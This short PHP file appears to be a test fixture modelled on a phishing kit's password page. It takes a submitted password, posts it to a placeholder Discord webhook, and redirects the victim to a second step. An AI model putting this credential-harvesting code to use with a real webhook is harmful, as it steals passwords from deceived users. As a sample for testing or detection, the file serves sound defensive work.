<?php
// the password page of a kit, sent to a Discord webhook (written for the tests, never run)
$pw = $_POST['pass'];
$body = json_encode(['content' => "password: " . $pw]);
$ch = curl_init("https://discord.com/api/webhooks/0/TESTHOOK");
curl_setopt($ch, CURLOPT_POSTFIELDS, $body);
curl_setopt($ch, CURLOPT_HTTPHEADER, ['Content-Type: application/json']);
curl_exec($ch);
header("Location: step2.php");
